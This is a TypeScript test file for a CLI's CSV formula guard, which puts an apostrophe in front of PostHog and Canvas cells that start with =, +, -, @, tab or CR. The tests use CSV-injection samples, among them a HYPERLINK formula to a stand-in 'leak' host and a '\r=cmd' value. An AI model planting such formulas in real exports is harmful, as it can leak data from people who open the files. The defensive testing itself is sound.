/**
 * The formula guard in the CLI (CLI.md "Formula guard"): `posthog get --format csv` and
 * `canvas get --format csv` prefix `'` to text cells starting with = + - @ tab or CR, numbers stay
 * numbers, and `--no-formula-guard` turns it off. The CLI runs as a child process against real
 * HTTP on 127.0.0.1; the CSV is read back with Papa Parse.
 */
import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import Papa from 'papaparse';
import { PostHogFake, startPostHogFake } from '../../fakes/posthog';
import { cliBundle, runCli } from '../../fakes/canvasCli';

const HYPERLINK = '=HYPERLINK("http://example.invalid/?leak","click")';

function readCsv(text: string): string[][] {
  const r = Papa.parse<string[]>(text, { newline: '\n', skipEmptyLines: true });
  assert.deepEqual(r.errors, []);
  return r.data;
}

describe('formula guard in the CLI', function () {
  this.timeout(60_000);
  before(async () => {
    await cliBundle();
  });

  describe('posthog get --format csv', () => {
    let fake: PostHogFake;
    before(async () => {
      fake = await startPostHogFake();
    });
    after(() => fake.close());

    /**
     * A trends insight whose series label and breakdown value are formula-like and whose first
     * value is negative (PostHog trends result entries: label, days, data, breakdown_value;
     * posthog/hogql_queries/insights/trends/trends_query_runner.py in PostHog/posthog).
     */
    async function withHostileLabels<T>(fn: (id: number) => Promise<T>): Promise<T> {
      const insight = fake.insights.find((i) => i.name === 'Weekly active learners')!;
      const entry = (insight.result as { label: string; days: string[]; data: number[]; breakdown_value?: string }[])[0];
      const saved = { label: entry.label, first: entry.data[0] };
      entry.label = HYPERLINK;
      entry.data[0] = -5;
      entry.breakdown_value = '@SUM(A1)';
      try {
        return await fn(insight.id);
      } finally {
        entry.label = saved.label;
        entry.data[0] = saved.first;
        delete entry.breakdown_value;
      }
    }

    const get = (id: number, extra: string[] = []) =>
      runCli(['posthog', 'get', '--base-url', fake.url, '--project', String(fake.projectId), '--insight', String(id), '--format', 'csv', ...extra], {
        POSTHOG_API_KEY: fake.apiKey,
      });

    it("prefixes ' to formula-like series labels and leaves a negative value a number", async () => {
      await withHostileLabels(async (id) => {
        const r = await get(id);
        assert.equal(r.code, 0, r.stderr);
        const rows = readCsv(r.stdout.toString('utf8'));
        assert.deepEqual(rows[0], ['series', 'date', 'value', 'breakdown_value']);
        assert.deepEqual([rows[1][0], rows[1][2], rows[1][3]], ["'" + HYPERLINK, '-5', "'@SUM(A1)"]);
        assert.ok(!rows.slice(1).some((row) => /^[=+\-@\t\r]/.test(row[0] + row[3])), 'no label starts like a formula');
      });
    });

    it('--no-formula-guard writes the labels as they are', async () => {
      await withHostileLabels(async (id) => {
        const r = await get(id, ['--no-formula-guard']);
        assert.equal(r.code, 0, r.stderr);
        const rows = readCsv(r.stdout.toString('utf8'));
        assert.deepEqual([rows[1][0], rows[1][2], rows[1][3]], [HYPERLINK, '-5', '@SUM(A1)']);
      });
    });
  });

  describe('canvas get --format csv', () => {
    // A Canvas list endpoint answers a JSON array of objects, e.g. GET /api/v1/courses/:id/assignments
    // (https://canvas.instructure.com/doc/api/assignments.html#method.assignments_api.index); one page, no Link header.
    let server: http.Server;
    let url = '';
    const token = 'canvas-token-for-the-guard-test-0123456789';
    before(async () => {
      server = http.createServer((req, res) => {
        if (req.headers.authorization !== `Bearer ${token}`) {
          res.writeHead(401, { 'content-type': 'application/json' }).end('{"errors":[{"message":"Invalid access token."}]}');
          return;
        }
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(
          JSON.stringify([
            { id: 1, name: HYPERLINK, points_possible: -2, description: '+1' },
            { id: 2, name: '\t=1+2', points_possible: 10, description: '\r=cmd' },
          ]),
        );
      });
      await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    });
    after(() => new Promise<void>((r) => server.close(() => r())));

    const get = (extra: string[] = []) => runCli(['canvas', 'get', '--base-url', url, '--path', '/api/v1/courses/1/assignments', '--format', 'csv', ...extra], { CANVAS_TOKEN: token });

    it("prefixes ' to formula-like text (=, +, tab, CR) and leaves numbers alone", async () => {
      const r = await get();
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(readCsv(r.stdout.toString('utf8')), [
        ['id', 'name', 'points_possible', 'description'],
        ['1', "'" + HYPERLINK, '-2', "'+1"],
        ['2', "'\t=1+2", '10', "'\r=cmd"],
      ]);
    });

    it('--no-formula-guard writes them as they are', async () => {
      const r = await get(['--no-formula-guard']);
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(readCsv(r.stdout.toString('utf8')).slice(1), [
        ['1', HYPERLINK, '-2', '+1'],
        ['2', '\t=1+2', '10', '\r=cmd'],
      ]);
    });
  });
});
